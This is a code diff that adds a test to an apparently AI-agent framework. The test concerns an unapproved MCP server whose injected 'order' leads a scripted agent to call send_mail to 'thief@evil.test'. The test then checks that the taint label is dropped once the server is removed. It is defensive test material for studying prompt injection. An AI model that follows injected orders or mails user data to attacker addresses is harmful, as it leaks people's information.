@@ -12,6 +12,8 @@ import {
   run,
   type Tool,
 } from "capstan";
+import { memory } from "capstan/stores/memory";
+import { scriptedModel } from "capstan/testing";
 import { describe, expect, it } from "vitest";
 import { obedientModel } from "../../../capstan/src/testing/obedient-model.ts";
 import type { HttpConfig } from "./config/server-config.ts";
@@ -265,6 +267,24 @@ describe("an MCP server that nobody has approved", () => {
       await mcp.trust("notes");
       expect(mcp.tools).toMatchObject([{ description }]);
       expect(mcp.tools[0]).not.toHaveProperty("foreign");
+    });
+  });
+
+  it("is forgotten when it is gone: words that the model wrote because of it carry no label", async () => {
+    await withNotes({}, async ({ mcp, list }) => {
+      const sent: unknown[] = [];
+      const shared = { store: memory(), session: "s" };
+      const ask = (model: Model) =>
+        run(
+          defineAgent({ name: "office", model, tools: () => [...createOwnTools(sent), ...mcp.tools] }),
+          "Do your work.",
+          shared,
+        );
+      await ask(scriptedModel([{ text: `To do: ${order}` }]));
+      const send = { calls: [{ name: "send_mail", input: { to: "thief@evil.test" } }] };
+      await list();
+      expect(await ask(scriptedModel([send, { text: "Sent." }]))).toMatchObject({ status: "done" });
+      expect(sent).toHaveLength(1);
     });
   });
 
